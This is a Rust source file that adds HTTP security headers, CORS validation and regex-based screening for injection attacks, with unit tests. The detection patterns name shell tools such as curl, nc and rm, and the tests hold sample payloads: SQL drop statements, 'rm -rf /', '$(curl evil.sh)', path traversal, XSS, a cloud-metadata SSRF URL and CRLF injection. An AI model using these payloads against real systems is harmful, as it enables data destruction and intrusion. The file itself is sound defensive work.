//! HTTP hardening (security headers, CORS) and optional content screening.

use axum::http::{HeaderName, HeaderValue, Method};
use regex::RegexSet;
use tower_http::cors::{AllowOrigin, CorsLayer};

/// `LOCI_SECURITY_PRESET`: which Content-Security-Policy to send.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Preset {
    Default,
    Permissive,
    Strict,
}

impl Preset {
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "default" => Some(Preset::Default),
            "permissive" => Some(Preset::Permissive),
            "strict" => Some(Preset::Strict),
            _ => None,
        }
    }
}

#[derive(Clone, Debug)]
pub struct HttpSecurity {
    pub preset: Preset,
    /// Overrides the preset's CSP (`DAKERA_CSP_POLICY` / `LOCI_CSP`).
    pub csp_override: Option<String>,
    pub cors_origins: Vec<String>,
    pub cors_credentials: bool,
}

impl Default for HttpSecurity {
    fn default() -> Self {
        HttpSecurity { preset: Preset::Default, csp_override: None, cors_origins: Vec::new(), cors_credentials: false }
    }
}

impl HttpSecurity {
    /// Refuse configurations that would be unsafe (checked at start-up).
    pub fn validate(&self) -> Result<(), String> {
        if self.cors_credentials && self.cors_origins.iter().any(|o| o == "*") {
            return Err("LOCI_CORS_ORIGINS='*' together with credentials would let any site act with a user's cookies; list the allowed origins".into());
        }
        if let Some(c) = &self.csp_override {
            if HeaderValue::from_str(c).is_err() {
                return Err("LOCI_CSP is not a valid header value".into());
            }
        }
        for o in &self.cors_origins {
            if o != "*" && !(o.starts_with("http://") || o.starts_with("https://")) {
                return Err(format!("LOCI_CORS_ORIGINS entry '{o}' must be an http(s) origin or '*'"));
            }
        }
        Ok(())
    }

    pub fn csp(&self) -> String {
        if let Some(c) = &self.csp_override {
            return c.clone();
        }
        match self.preset {
            Preset::Default => "default-src 'none'; frame-ancestors 'none'; base-uri 'none'".into(),
            Preset::Permissive => "default-src 'self' 'unsafe-inline' data: https:; frame-ancestors 'self'".into(),
            Preset::Strict => {
                "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'; sandbox".into()
            }
        }
    }

    /// Headers added to every response.
    pub fn headers(&self) -> Vec<(HeaderName, HeaderValue)> {
        let mut v = vec![
            ("strict-transport-security", "max-age=63072000; includeSubDomains".to_string()),
            ("x-frame-options", "DENY".to_string()),
            ("x-content-type-options", "nosniff".to_string()),
            ("referrer-policy", "no-referrer".to_string()),
            ("cross-origin-opener-policy", "same-origin".to_string()),
            ("content-security-policy", self.csp()),
        ];
        if self.preset == Preset::Strict {
            v.push(("cache-control", "no-store".to_string()));
            v.push(("permissions-policy", "camera=(), microphone=(), geolocation=(), interest-cohort=()".to_string()));
        }
        v.into_iter()
            .filter_map(|(k, val)| Some((HeaderName::from_static(k), HeaderValue::from_str(&val).ok()?)))
            .collect()
    }

    pub fn cors(&self) -> Option<CorsLayer> {
        if self.cors_origins.is_empty() {
            return None;
        }
        let mut layer = CorsLayer::new()
            .allow_methods([Method::GET, Method::POST, Method::PUT, Method::PATCH, Method::DELETE, Method::OPTIONS])
            .allow_headers([
                axum::http::header::AUTHORIZATION,
                axum::http::header::CONTENT_TYPE,
                HeaderName::from_static("x-api-key"),
            ]);
        layer = if self.cors_origins.iter().any(|o| o == "*") {
            layer.allow_origin(AllowOrigin::any())
        } else {
            let list: Vec<HeaderValue> =
                self.cors_origins.iter().filter_map(|o| HeaderValue::from_str(o).ok()).collect();
            layer.allow_origin(list)
        };
        if self.cors_credentials {
            layer = layer.allow_credentials(true);
        }
        Some(layer)
    }
}

/// Per-namespace content screening mode (memory policy `content_screening`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize, Default)]
#[serde(rename_all = "lowercase")]
pub enum ScreeningMode {
    #[default]
    Off,
    Flag,
    Block,
}

/// The injection families of the Dakera documentation, in reporting order.
pub const FAMILIES: [&str; 7] = ["sql", "nosql", "shell", "path_traversal", "xss", "ssrf", "crlf"];

fn patterns() -> &'static RegexSet {
    static SET: std::sync::OnceLock<RegexSet> = std::sync::OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new([
            // SQL: statement chaining, tautologies, comments after a quote, UNION SELECT.
            r"(?i)(;\s*(drop|delete|insert|update|alter|truncate|create)\s+\w|'\s*(or|and)\s+'?\d+'?\s*=\s*'?\d+|'\s*;?\s*--|\bunion\s+(all\s+)?select\b)",
            // NoSQL operator injection.
            r#"(?i)["']?\$(where|ne|gt|gte|lt|lte|regex|in|nin|or|and|expr)["']?\s*:"#,
            // Shell: command substitution or chaining into common commands.
            r"(\$\([^)]*\)|`[^`]+`|(;|&&|\|\|?)\s*(rm|curl|wget|bash|sh|nc|cat|chmod|python|perl)\b)",
            // Path traversal.
            r"(?i)(\.\./|\.\.\\|%2e%2e(%2f|/|%5c))",
            // XSS.
            r"(?i)(<\s*script\b|javascript:|\bon(error|load|click|mouseover)\s*=|<\s*iframe\b)",
            // SSRF targets: metadata services, loopback and private ranges in URLs.
            r"(?i)https?://(169\.254\.169\.254|metadata\.google\.internal|localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(1[6-9]|2\d|3[01])\.\d+\.\d+|\[::1\])",
            // CRLF injection (header splitting).
            r"(?i)(\r\n|%0d%0a)\s*[a-z-]+\s*:",
        ])
        .expect("screening patterns compile")
    })
}

/// The injection families found in `content`.
pub fn screen(content: &str) -> Vec<&'static str> {
    patterns().matches(content).into_iter().map(|i| FAMILIES[i]).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_each_family_and_passes_ordinary_text() {
        let cases = [
            ("'; DROP TABLE users; --", "sql"),
            ("x' OR '1'='1", "sql"),
            (r#"{"$where": "sleep(1000)"}"#, "nosql"),
            ("hello; rm -rf /", "shell"),
            ("$(curl evil.sh)", "shell"),
            ("../../etc/passwd", "path_traversal"),
            ("<script>alert(1)</script>", "xss"),
            ("<img src=x onerror=alert(1)>", "xss"),
            ("fetch http://169.254.169.254/latest/meta-data", "ssrf"),
            ("hi\r\nSet-Cookie: a=b", "crlf"),
        ];
        for (text, family) in cases {
            assert!(screen(text).contains(&family), "{text:?} should be {family}: {:?}", screen(text));
        }
        for ok in ["I prefer tea over coffee.", "Meeting at 10:30; bring the report", "The union selected a new chair"]
        {
            assert!(screen(ok).is_empty(), "{ok:?} flagged as {:?}", screen(ok));
        }
    }

    #[test]
    fn wildcard_cors_with_credentials_is_refused() {
        let s = HttpSecurity { cors_origins: vec!["*".into()], cors_credentials: true, ..Default::default() };
        assert!(s.validate().is_err());
        let s = HttpSecurity {
            cors_origins: vec!["https://app.example".into()],
            cors_credentials: true,
            ..Default::default()
        };
        assert!(s.validate().is_ok());
    }
}
